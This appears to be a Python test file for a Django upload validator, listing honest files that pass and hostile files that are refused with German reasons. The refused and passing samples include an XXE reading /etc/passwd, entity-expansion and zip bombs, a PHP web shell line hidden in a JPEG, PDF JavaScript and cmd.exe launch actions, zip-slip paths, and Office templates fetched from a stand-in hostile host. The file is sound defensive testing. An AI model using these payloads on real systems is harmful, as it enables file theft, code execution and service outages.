"""Honest files, which are taken, and hostile ones, each with the reason for which it is refused."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from rooms import uploads
from tests.attack.corpus import (
    EICAR,
    FLATE,
    OBJSTM,
    PAGES,
    PAYLOAD,
    exif,
    odf,
    office,
    office_parts,
    pdf,
    picture,
    png_chunk,
    png_claiming,
    png_texts,
    rels,
    stream,
    zipped,
    zipped_zeros,
)

WRONG, BROKEN, ACTIVE, BOMB = "passt nicht zur Endung", "beschädigt", "aktive Inhalte", "ausgepackt zu groß"
MACROS, ENTITIES, FETCHES, PACKED = "Makros", "DOCTYPE", "lädt beim Öffnen", "gepackte Datei"
NOT_ONLY, OBJECT = "nicht nur ein PDF", "eingebettetes Objekt"
PIXELS, ENDING, TEXT = "40 Millionen Bildpunkte", "Möglich sind", "keine Textdatei"
JPEG, PNG = picture("JPEG"), picture("PNG")
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
MACRO_TYPE = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
TEMPLATE = "word/_rels/settings.xml.rels"
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
TAKEN = {
    "pdf": ("Protokoll.pdf", pdf(PAGES)),
    "pdf-packed-objects": ("a.pdf", pdf(PAGES, stream(OBJSTM + FLATE, b"1 0 << /Type /Page >>"))),
    "pdf-picture-inside": ("a.pdf", pdf(PAGES, stream(b"/Filter /DCTDecode", JPEG, packed=False))),
    "pdf-words-that-begin-alike": ("a.pdf", pdf(PAGES, b"<< /Launchpad 1 /XFAx 2 /URI (https://a.example/JS) >>")),
    "pdf-link-with-a-word": ("a.pdf", pdf(PAGES, b"<< /S /URI /URI (https://a.example/JavaScript) >>")),
    "png": ("Foto.PNG", PNG),
    "png-transparent": ("a.png", picture("PNG", "RGBA")),
    "png-palette": ("a.png", picture("PNG", "P", transparency=1)),
    "png-one-bit": ("a.png", picture("PNG", "1")),
    "png-sixteen-bit": ("a.png", picture("PNG", "I;16")),
    "jpeg": ("Foto.jpg", JPEG),
    "jpeg-grey": ("a.jpeg", picture("JPEG", "L")),
    "jpeg-print": ("a.jpeg", picture("JPEG", "CMYK")),
    "jpeg-progressive": ("a.jpg", picture("JPEG", progressive=True)),
    "jpeg-exif": ("a.jpg", picture("JPEG", exif=exif())),
    "png+html-behind": ("a.png", PNG + PAYLOAD),
    "png+html-in-text": ("a.png", picture("PNG", pnginfo=png_texts(PAYLOAD.decode(), "Erika"))),
    "png+html-in-chunk": ("a.png", PNG[:33] + png_chunk(b"prVt", PAYLOAD) + PNG[33:]),
    "png+exif": ("a.png", picture("PNG", exif=exif())),
    "jpeg+zip": ("a.jpg", zipped({"boese.js": PAYLOAD}, prefix=JPEG)),
    "jpeg+html-comment": ("a.jpg", picture("JPEG", comment=PAYLOAD)),
    "jpeg+php-behind": ("a.jpg", JPEG + b"<?php system($_GET[0]); ?>" + PAYLOAD),
    "jpeg+icc": ("a.jpg", picture("JPEG", icc_profile=PAYLOAD * 9)),
    "png-animated": ("a.png", picture("PNG", save_all=True, append_images=[Image.new("RGB", (24, 16), "red")])),
    "double-ending-honest-inside": ("rechnung.exe.png", PNG + PAYLOAD),
    "docx": ("a.docx", office()),
    "xlsx": ("a.xlsx", office("xlsx")),
    "pptx": ("a.pptx", office("pptx")),
    "odt": ("a.odt", odf()),
    "ods": ("a.ods", odf("spreadsheet")),
    "docx-behind-html": ("a.docx", zipped(office_parts(), suffix=b"\r\n")),
    "docx-comment": ("a.docx", zipped(office_parts(), comment=PAYLOAD)),
    "docx-chart": ("a.docx", office(**{"word/embeddings/Tabelle1.xlsx": office("xlsx")})),
    "docx-link": ("a.docx", office(**{"word/_rels/document.xml.rels": rels("hyperlink", "https://a.example")})),
    "docx-own-template": ("a.docx", office(**{TEMPLATE: rels("attachedTemplate", "file:///C:\\Users\\Erika\\B.dotm")})),
    "txt": ("a.txt", "Grüße".encode()),
    "txt-html-never-shown": ("a.txt", b"<p>Kein Skript wird je gezeigt.</p>"),
    "csv-windows": ("a.csv", "Grüße;1\r\n".encode("cp1252")),
    "name-of-300-signs": (f"{'ä' * 300}.txt", b"Text"),
    "name-from-right-to-left": ("a\u202efdp.txt", b"Text"),
    "name-with-quotes": ('a"; filename="b.exe.txt', b"Text"),
}
REFUSED = {
    "eicar.pdf": ("a.pdf", EICAR, WRONG),
    "exe": ("a.exe", b"MZ", ENDING),
    "svg": ("a.svg", b"<svg onload='alert(1)'/>", ENDING),
    "html": ("a.html", PAYLOAD, ENDING),
    "zip": ("a.zip", zipped({"a": "b"}), ENDING),
    "docm": ("a.docm", office(), ENDING),
    "heic": ("a.heic", b"\x00\x00\x00\x18ftypheic", ENDING),
    "gif": ("a.gif", b"GIF89a", ENDING),
    "fits": ("a.fits", b"SIMPLE  =                    T", ENDING),
    "no-ending": ("ohne", b"x", ENDING),
    "double-ending": ("a.pdf.exe", pdf(PAGES), ENDING),
    "ending-with-space": ("a.pdf ", pdf(PAGES), ENDING),
    "name-cut-by-nul": ("a.exe\x00", b"MZ", ENDING),
    "empty": ("a.pdf", b"", "ist leer"),
    "large": ("a.txt", b"x" * (uploads.LARGEST + 1), "größer als 20 MB"),
    "svg.png": ("a.png", b"<svg onload='alert(1)'/>", WRONG),
    "fits.png": ("a.png", b"SIMPLE  =                    T" + b" " * 2850, WRONG),
    "gif+js.png": ("a.png", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", WRONG),
    "jpeg.png": ("a.png", JPEG, WRONG),
    "png.jpg": ("a.jpg", PNG, WRONG),
    "png-cut": ("a.png", picture("PNG", "RGB", (200, 200))[:90], BROKEN),
    "jpeg-cut": ("a.jpg", picture("JPEG", "RGB", (200, 200))[:-200], BROKEN),
    "png-60000": ("a.png", png_claiming(60_000, 60_000), PIXELS),
    "png-8000x6000": ("a.png", png_claiming(8_000, 6_000), PIXELS),
    "png-10000x9500": ("a.png", png_claiming(10_000, 9_500), PIXELS),
    "png-crc": ("a.png", PNG[:29] + b"\x00\x00\x00\x00" + PNG[33:], f"{WRONG}|{BROKEN}"),
    "png-text-bomb": ("a.png", picture("PNG", pnginfo=png_texts("", "x" * 9_000_000)), BROKEN),
    "jpeg-scans": ("a.jpg", JPEG[:-2] + b"\xff\xda" * 200 + JPEG[-2:], "ungewöhnlich"),
    "png.pdf": ("a.pdf", PNG, WRONG),
    "html+pdf": ("a.pdf", PAYLOAD + pdf(PAGES), WRONG),
    "pdf+html-at-the-head": ("a.pdf", pdf(PAGES, head=b"%PDF-1.7\n<html>" + PAYLOAD), NOT_ONLY),
    "pdf+html-behind": ("a.pdf", pdf(PAGES) + PAYLOAD, NOT_ONLY),
    "pdf+zip": ("a.pdf", zipped({"boese.js": "x"}, prefix=pdf(PAGES)), NOT_ONLY),
    "pdf+zip-before-the-end": ("a.pdf", zipped({"boese.js": "x"}, prefix=pdf(PAGES), suffix=b"\n%%EOF\n"), NOT_ONLY),
    "pdf-without-end": ("a.pdf", pdf(PAGES, tail=b""), BROKEN),
    "pdf-javascript": ("a.pdf", pdf(PAGES, SCRIPT), ACTIVE),
    "pdf-javascript-escaped": ("a.pdf", pdf(PAGES, SCRIPT.replace(b"/JavaScript", b"/J#61vaScr#69pt")), ACTIVE),
    "pdf-javascript-packed": ("a.pdf", pdf(PAGES, stream(OBJSTM + FLATE, b"3 0 " + SCRIPT)), ACTIVE),
    "pdf-javascript-deep": ("a.pdf", pdf(PAGES, stream(OBJSTM + FLATE, bytes(3_000_000) + SCRIPT)), ACTIVE),
    "pdf-javascript-hex-packed": (
        "a.pdf",
        pdf(PAGES, stream(OBJSTM + b"/Filter /ASCIIHexDecode", b"2F>", False)),
        ACTIVE,
    ),
    "pdf-packed-twice": ("a.pdf", pdf(PAGES, stream(OBJSTM + b"/Filter [/A85 /FlateDecode]", b"x")), ACTIVE),
    "pdf-packed-in-rows": ("a.pdf", pdf(PAGES, stream(OBJSTM + FLATE + b"/DecodeParms <<>>", b"x")), ACTIVE),
    "pdf-javascript-as-link": ("a.pdf", pdf(PAGES, b"<< /URI (https://a.example \n) /S /JavaScript ) >>"), ACTIVE),
    "pdf-javascript-behind-link": ("a.pdf", pdf(PAGES, b"<< /URI (https://a.example) /S/JavaScript >>"), ACTIVE),
    "pdf-only-js": ("a.pdf", pdf(PAGES, b"<< /S /Rendi#74ion /JS (alert) >>"), ACTIVE),
    "pdf-launch": ("a.pdf", pdf(PAGES, b"<< /OpenAction << /S /Launch /F (cmd.exe) >> >>"), ACTIVE),
    "pdf-attachment": ("a.pdf", pdf(PAGES, b"<< /EF << /F 3 0 R >> /Type /EmbeddedFile >>"), ACTIVE),
    "pdf-flash": ("a.pdf", pdf(PAGES, b"<< /Subtype /RichMedia >>"), ACTIVE),
    "pdf-fetches": ("a.pdf", pdf(PAGES, b"<< /S /GoToE /F (\\\\\\\\boese.example\\\\x) >>"), ACTIVE),
    "pdf-xfa": ("a.pdf", pdf(PAGES, b"<< /XFA 4 0 R >>"), ACTIVE),
    "pdf-locked": ("a.pdf", pdf(PAGES, b"<< /Encrypt 5 0 R >>"), "verschlüsselt"),
    "pdf-bomb": (
        "a.pdf",
        lambda: pdf(PAGES, stream(FLATE, bytes(210 * 2**20)), stream(FLATE, bytes(210 * 2**20))),
        BOMB,
    ),
    "png.docx": ("a.docx", PNG, BROKEN),
    "odt.docx": ("a.docx", odf(), WRONG),
    "docx.xlsx": ("a.xlsx", office(), WRONG),
    "ods.odt": ("a.odt", odf("spreadsheet"), WRONG),
    "zip.docx": ("a.docx", zipped({"a.txt": "b"}), WRONG),
    "jpeg+docx": ("a.docx", zipped(office_parts(), prefix=JPEG), BROKEN),
    "docx-cut": ("a.docx", office()[:-30], BROKEN),
    "docx-bytes-changed": ("a.docx", office()[:60] + b"\xff" + office()[61:], BROKEN),
    "docx-macro": ("a.docx", office(**{"word/vbaProject.bin": "x"}), MACROS),
    "docx-macro-hidden": ("a.docx", office(**{"word/VBAPROJECT.BIN": "x"}), MACROS),
    "docx-macro-type": ("a.docx", office(**{"[Content_Types].xml": MACRO_TYPE}), MACROS),
    "docx-macro-linked": ("a.docx", office(**{TEMPLATE: rels("vbaProject", "x.bin", "Internal")}), MACROS),
    "docx-macro-in-chart": ("a.docx", office(**{"word/e.xlsx": office("xlsx", **{"xl/vbaProject.bin": "x"})}), MACROS),
    "xlsx-old-macros": ("a.xlsx", office("xlsx", **{"xl/macrosheets/sheet1.xml": "<x/>"}), MACROS),
    "docx-controls": ("a.docx", office(**{"word/activeX/activeX1.xml": "<x/>"}), MACROS),
    "odt-macros": ("a.odt", odf(**{"Basic/Standard/Module1.xml": "<x/>"}), MACROS),
    "docx-ole": ("a.docx", office(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1"}), OBJECT),
    "docx-xxe": ("a.docx", office(**{"word/document.xml": XXE}), ENTITIES),
    "docx-xxe-utf16": ("a.docx", office(**{"word/document.xml": XXE.encode("utf-16")}), ENTITIES),
    "docx-xxe-other-name": ("a.docx", office(**{"word/teil.vml": " " + XXE}), ENTITIES),
    "docx-xxe-in-types": ("a.docx", office(**{"[Content_Types].xml": XXE}), ENTITIES),
    "docx-xxe-in-about": ("a.docx", office(**{"docProps/core.xml": XXE}), ENTITIES),
    "docx-laughs": ("a.docx", office(**{"word/document.xml": LAUGHS}), ENTITIES),
    "odt-xxe": ("a.odt", odf(**{"meta.xml": XXE}), ENTITIES),
    "docx-not-xml": ("a.docx", office(**{"word/document.xml": "<w>"}), BROKEN),
    "docx-template-elsewhere": (
        "a.docx",
        office(**{TEMPLATE: rels("attachedTemplate", "https://boese.example/t")}),
        FETCHES,
    ),
    "docx-template-share": (
        "a.docx",
        office(**{TEMPLATE: rels("attachedTemplate", "\\\\boese.example\\t.dotm")}),
        FETCHES,
    ),
    "docx-picture-elsewhere": (
        "a.docx",
        office(**{"word/_rels/d.rels": rels("image", "http://boese.example/p")}),
        FETCHES,
    ),
    "docx-slip": ("a.docx", office(**{"../../etc/cron.d/x": "x"}), BROKEN),
    "docx-slip-windows": ("a.docx", office(**{"..\\x.xml": "<x/>"}), BROKEN),
    "docx-slip-absolute": ("a.docx", office(**{"/etc/passwd": "x"}), BROKEN),
    "docx-same-name-twice": ("a.docx", office(**{"word/a.xml": "<x/>", "word/A.xml": "<y/>"}), BROKEN),
    "docx-200-MB": ("a.docx", lambda: zipped_zeros("word/a.bin", 200), BOMB),
    "docx-tight": ("a.docx", lambda: zipped_zeros("word/a.bin", 50), BOMB),
    "docx-2001-parts": ("a.docx", office(**{f"word/{number}": "" for number in range(2000)}), BOMB),
    "docx-many-small-bombs": (
        "a.docx",
        lambda: office(**{f"word/e{n}.xlsx": zipped_zeros("xl/a", 9, **office_parts("xlsx")) for n in range(12)}),
        BOMB,
    ),
    "docx-large-inside": ("a.docx", lambda: office(**{"word/a.xlsx": office("xlsx") + bytes(21 * 2**20)}), BOMB),
    "docx-nested": ("a.docx", office(**{"word/innen.zip": zipped({"a": "b"})}), PACKED),
    "docx-nested-twice": ("a.docx", office(**{"w/a.xlsx": office("xlsx", **{"x/b.docx": office()})}), PACKED),
    "docx-large-about": ("a.docx", office(**{"docProps/core.xml": "<x>" + "<a/>" * 90_000 + "</x>"}), BOMB),
    "txt-control-signs": ("a.txt", b"a\x00b", TEXT),
    "pdf.txt": ("a.txt", pdf(PAGES), TEXT),
    "gif+js.txt": ("a.txt", b"GIF89a/* */=1;alert(1)", TEXT),
    "zip.csv": ("a.csv", zipped({"a": "b"}), TEXT),
    "noise.csv": ("a.csv", b"\x81\x8d\xff", TEXT),
}


def upload(name, content):
    file = SimpleUploadedFile("x", content() if callable(content) else content)
    file._name = name  # as wild as it comes; Django's own cut is not what is tried here
    return file


def unpacked(content):
    """The bytes, and those of every part of a package."""
    found = [content]
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                found += unpacked(archive.read(name))
    return found


def cleaned(name, content):
    file = upload(name, content)
    assert uploads.check(file) == uploads.TYPES[name.rpartition(".")[2].lower()]
    stored = file.read()
    assert file.size == len(stored)
    return stored
